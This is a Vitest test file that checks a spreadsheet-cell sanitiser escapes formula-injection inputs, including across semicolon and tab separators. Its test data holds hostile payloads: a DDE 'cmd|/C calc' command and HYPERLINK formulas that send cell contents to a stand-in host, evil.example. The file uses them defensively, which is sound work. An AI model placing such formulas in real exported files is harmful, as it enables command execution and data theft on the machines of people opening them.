import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import { spreadsheetCell } from '../../src/compiler/meaning/spreadsheet-cell.ts'

const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '=1+1\nsecond line',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  "-2+3+cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1)',
]

describe('a cell of a spreadsheet', () => {
  it.each(formulas)('%j is shown and not computed', (text) => {
    expect(spreadsheetCell(text).replaceAll(/([\t\r\n])'/g, '$1')).toBe(`'${text}`)
  })

  it.each([
    ['Acme;=1+1', "Acme;'=1+1"],
    ['Acme; "=1+1', 'Acme; "\'=1+1'],
    ['a;-cmd|x;+1;＠SUM(1)', "a;'-cmd|x;+1;'＠SUM(1)"],
    ['Qualify\n=1+1', "Qualify\n'=1+1"],
    ['a;\t=1', "a;\t'=1"],
  ])('%j is shown where semicolons part cells, too', (text, cell) => {
    expect(spreadsheetCell(text)).toBe(cell)
  })

  it('is no formula behind any separator of any program', () => {
    const csv = Papa.unparse(
      [['Acme', 'x;=HYPERLINK("https://evil.example/")', 'Qualify\n=1+1']].map((row) => row.map(spreadsheetCell)),
    )
    for (const delimiter of [',', ';', '\t']) {
      const cells = Papa.parse<string[]>(csv, { delimiter }).data.flat()
      expect(cells.filter((cell) => /^["\s]*[=+@-]/.test(cell))).toEqual([])
    }
  })

  it.each(['', '-5', '+5', '-1,200.50', 'a = b', "'=1", '2026-10-05', '–5 %', 'a; b', 'a;-5', '30 days; -5'])(
    '%j stays as it is',
    (text) => {
      expect(spreadsheetCell(text)).toBe(text)
    },
  )
})
